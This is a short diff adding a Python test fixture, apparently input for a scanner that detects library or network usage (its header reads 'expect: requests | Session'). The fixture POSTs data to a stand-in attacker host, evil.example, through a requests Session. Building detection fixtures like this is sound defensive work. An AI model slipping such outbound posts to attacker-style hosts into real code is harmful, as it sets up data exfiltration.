@@ -1,0 +1,4 @@
+# expect: requests | Session
+import requests
+s = requests.Session()
+s.post('http://evil.example/', data='x')
